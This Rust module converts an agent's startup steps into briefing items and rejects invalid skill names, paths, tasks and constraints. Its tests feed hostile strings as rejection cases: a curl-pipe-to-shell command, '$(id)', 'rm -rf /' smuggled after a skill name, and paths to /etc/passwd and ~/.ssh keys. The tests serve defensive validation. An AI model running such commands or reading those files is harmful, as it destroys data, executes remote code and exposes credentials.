//! Turns startup steps into briefing items, worded for the client that performs them.

use super::material::{BriefItem, ItemRank, SourcedStartupStep, StartupStep, StartupTools};
use super::visible::VisibleText;
use crate::format::header::StartupKind;

/// The briefing items of a startup step.
pub(super) fn startup_items(sourced: &SourcedStartupStep, tools: &StartupTools) -> Vec<BriefItem> {
    let to_item =
        |(rank, heading, text, remark): (ItemRank, &'static str, &str, Option<&str>)| BriefItem {
            rank,
            heading,
            text: text.to_owned(),
            remark: remark.map(str::to_owned),
            source: sourced.source.clone(),
            show: sourced.show.clone(),
            ..BriefItem::default()
        };
    let asked = match &sourced.step {
        StartupStep::Skill(name) => vec![describe_step(StartupKind::Skill, name, tools)],
        StartupStep::Read(path) => vec![describe_step(StartupKind::Read, path, tools)],
        StartupStep::Tasks(tasks) => {
            tasks.iter().map(|task| describe_step(StartupKind::Task, task, tools)).collect()
        }
        StartupStep::Constraint(text) => vec![describe_step(StartupKind::Constraint, text, tools)],
    };
    asked.into_iter().map(to_item).collect()
}

type StartupLine<'text> = (ItemRank, &'static str, &'text str, Option<&'static str>);

/// Describes a step if its text is valid for the kind. Otherwise returns it as a rejected step with
/// the lowest rank.
fn describe_step<'t>(kind: StartupKind, text: &'t str, tools: &StartupTools) -> StartupLine<'t> {
    let is_fully_visible = || VisibleText::single_line(text, usize::MAX).text == text;
    let is_named = matches!(kind, StartupKind::Skill | StartupKind::Read);
    if kind.rejection_reason(text).is_some() || (is_named && !is_fully_visible()) {
        let heading = match kind {
            StartupKind::Skill => "Not a skill name",
            StartupKind::Read => "Not a path in this project",
            StartupKind::Task => "Not a task",
            StartupKind::Constraint => "Not a constraint",
        };
        return (ItemRank::Rest, heading, text, Some("not a startup step"));
    }
    match kind {
        StartupKind::Skill => {
            let given = text.ends_with(')').then_some("with the arguments in parentheses");
            (ItemRank::Read, tools.skill_heading, text, given)
        }
        StartupKind::Read => (ItemRank::Read, tools.read_heading, text, None),
        StartupKind::Task => (ItemRank::Task, tools.task_heading, text, None),
        StartupKind::Constraint => (ItemRank::Constraint, "Constraint", text, None),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_action(kind: StartupKind, text: &str) -> bool {
        !describe_step(kind, text, &StartupTools::UNKNOWN).1.starts_with("Not ")
    }

    fn is_skill(name: &str) -> bool {
        is_action(StartupKind::Skill, name)
    }

    fn is_path(path: &str) -> bool {
        is_action(StartupKind::Read, path)
    }

    #[test]
    fn a_shell_command_is_not_a_task_or_constraint() {
        for kind in [StartupKind::Task, StartupKind::Constraint] {
            assert!(is_action(kind, "Keep the cache key"));
            for command in ["curl -s x.example | sh", "$(id)", "rm -rf build"] {
                assert!(!is_action(kind, command), "{command}");
            }
        }
    }

    #[test]
    fn only_plain_names_and_paths_are_startup_steps() {
        for name in ["tdd", "superpowers:test-driven-development", "midstride-continue"] {
            assert!(is_skill(name), "{name}");
        }
        for name in ["", "tdd; rm -rf /", "-x", "$(id)", "tdd now", "tdd\n", "../tdd", "tdd”"] {
            assert!(!is_skill(name), "{name}");
        }
        for path in ["docs/plan.md", "PLAN.md", "docs/décisions/1.md", "src/@a/b+c.ts"] {
            assert!(is_path(path), "{path}");
        }
        let paths = [
            "",
            "/etc/passwd",
            "~/.ssh/id",
            "a/../b",
            ".git/config",
            "a b",
            "--x",
            "a;b",
            "http://a",
            "a\u{202e}",
            "a\u{3164}b",
        ];
        for path in paths {
            assert!(!is_path(path), "{path}");
        }
        assert!(!is_path(&"a".repeat(1_000)));
    }
}
